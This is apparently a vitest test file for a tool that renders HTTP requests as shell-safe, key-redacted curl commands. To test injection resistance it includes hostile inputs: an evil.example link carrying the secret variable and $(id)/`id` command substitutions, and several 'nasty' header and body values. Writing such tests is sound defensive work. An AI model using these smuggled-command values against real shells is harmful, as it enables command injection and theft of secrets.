import { execFile, execFileSync, spawnSync } from 'node:child_process';
import { promisify } from 'node:util';
import { describe, expect, test } from 'vitest';
import type { Ask } from '../../suites/http.js';
import { curlOf } from './curl.js';
import { anAsk, aProbe, ask, SECRET, serve } from './fixtures.js';
import { createRedactor } from './redact.js';
import { prepare } from './request.js';

const commandOf = (over: Partial<Ask>, { secret = SECRET, insecure = false } = {}): string => {
  const request = prepare(anAsk(over), {
    base: 'http://pbx:80/api',
    secret,
    userAgent: 'linecheck/0',
    extraHeaders: [],
  });
  if (typeof request === 'string') throw new Error(request);
  const redactor = createRedactor(secret);
  if (typeof over.key === 'object') for (const value of over.key.values) redactor.add(value, over.key.label);
  return curlOf(request, { redact: redactor.redact, insecure, isDownload: over.intent === 'download' });
};
const start = "curl -sS -H 'Accept: application/json' --compressed";
const key = '-H "X-Secret-Key: $LINECHECK_SECRET"';

test.each<[string, Partial<Ask>, string]>([
  ['a plain request', {}, `${start} ${key} 'http://pbx/api/health'`],
  ['without the key', { key: 'none' }, `${start} 'http://pbx/api/health'`],
  ['an empty key', { key: { label: 'empty', values: [''] } }, `${start} -H 'X-Secret-Key;' 'http://pbx/api/health'`],
  [
    'a variant by its expression',
    { key: { label: 'short', values: [SECRET.slice(0, -1)], shell: ['\u0024{LINECHECK_SECRET%?}'] } },
    `${start} -H "X-Secret-Key: \${LINECHECK_SECRET%?}" 'http://pbx/api/health'`,
  ],
  [
    'a variant without one',
    { key: { label: 'short', values: [SECRET.slice(0, -1)] } },
    `${start} -H 'X-Secret-Key: [short]' 'http://pbx/api/health'`,
  ],
  [
    'the key in the path',
    { key: 'none', path: `/health?key=${SECRET}` },
    `${start} "http://pbx/api/health?key=$LINECHECK_SECRET"`,
  ],
  [
    'dots and brackets in the path',
    { key: 'none', path: '/a/../b?c[]=1' },
    `${start} --path-as-is --globoff 'http://pbx/api/a/../b?c[]=1'`,
  ],
  [
    'HEAD',
    { key: 'none', method: 'HEAD' },
    `curl -sS --head -H 'Accept: application/json' --compressed 'http://pbx/api/health'`,
  ],
  [
    'JSON',
    { key: 'none', method: 'POST', json: { a: "it's" } },
    `curl -sS -X POST -H 'Accept: application/json' --compressed -H 'Content-Type: application/json' --data-raw '{"a":"it'\\''s"}' 'http://pbx/api/health'`,
  ],
  [
    'an encoding of its own',
    { key: 'none', headers: [['Accept-Encoding', 'identity']] },
    "curl -sS -H 'Accept: application/json' -H 'Accept-Encoding: identity' 'http://pbx/api/health'",
  ],
])('%s', (_name, over, command) => {
  expect(commandOf(over)).toBe(command);
});

test('a body over 8 KiB is left out', () => {
  const command = commandOf({ method: 'POST', body: 'x'.repeat(8193) });
  expect(command).not.toContain('xx');
  expect(command).toMatch(/ # body of 8193 bytes not shown$/);
});

test('a link cannot make the shell send the key, or anything else, to its host', () => {
  const command = commandOf({
    intent: 'download',
    path: "https://evil.example/$LINECHECK_SECRET?'$(id)`id`=demo-secret-123",
  });
  expect(command).toContain('-o /dev/null');
  expect(command.endsWith(" 'https://evil.example/$LINECHECK_SECRET?%27$(id)`id`=[key removed]'")).toBe(true);
});

const hasCurl = spawnSync('curl', ['--version']).status === 0;

describe.runIf(hasCurl)('run by a shell', () => {
  const nasty = `q"uo'te $HOME \`id\` $(id) \\ ! é`;

  test.each<[string, Partial<Ask>]>([
    ['a plain request', { path: '/contacts' }],
    ['an odd path', { path: '//a/../b;c=d/..%2f?x=$HOME&y=\'[1]{2}"`id`' }],
    ['an empty header', { key: { label: 'empty', values: [''] } }],
    ['the key twice', { key: { label: 'both', values: ['wrong', SECRET], header: 'x-SECRET-key' } }],
    [
      'nasty values',
      {
        headers: [
          ['X-Nasty', nasty],
          ['Accept', '*/*'],
        ],
      },
    ],
    ['a JSON body with the key', { method: 'POST', json: { nasty, key: SECRET } }],
    ['a raw body without a type', { method: 'POST', body: `{"a": '${nasty}\n` }],
    ['another method', { method: 'PATCH', json: [1] }],
    ['GET with a body', { body: 'x=1' }],
  ])('%s arrives as it was sent', async (_name, over) => {
    const arrived: unknown[] = [];
    const base = await serve(async (request, response) => {
      const chunks: Buffer[] = [];
      for await (const chunk of request) chunks.push(chunk as Buffer);
      const headers: string[] = [];
      for (let at = 0; at < request.rawHeaders.length; at += 2)
        headers.push(`${request.rawHeaders[at]}: ${request.rawHeaders[at + 1]}`);
      arrived.push({
        line: `${request.method} ${request.url}`,
        headers: headers
          .filter((line) => !/^(host|connection|content-length|user-agent|accept-encoding):/i.test(line))
          .sort(),
        body: Buffer.concat(chunks).toString(),
      });
      response.end();
    });
    const probe = aProbe({ base: `${base}/api` });
    await ask(probe, over);
    const command = probe.exchanges()[0]?.curl ?? '';
    expect(command).not.toContain(SECRET);
    await promisify(execFile)('sh', ['-c', command], {
      env: { PATH: process.env.PATH, LINECHECK_SECRET: SECRET, HOME: '/root' },
    });
    expect(arrived[1]).toEqual(arrived[0]);
  });

  test('with a key that needs quoting', () => {
    const secret = `a"b$c\`d\\e'f 12`;
    const command = commandOf({ key: 'configured' }, { secret }).replace(/^curl/, 'printf "%s\\n"');
    const printed = execFileSync('sh', ['-c', command], { env: { LINECHECK_SECRET: secret }, encoding: 'utf8' });
    expect(printed.split('\n')).toContain(`X-Secret-Key: ${secret}`);
  });
});
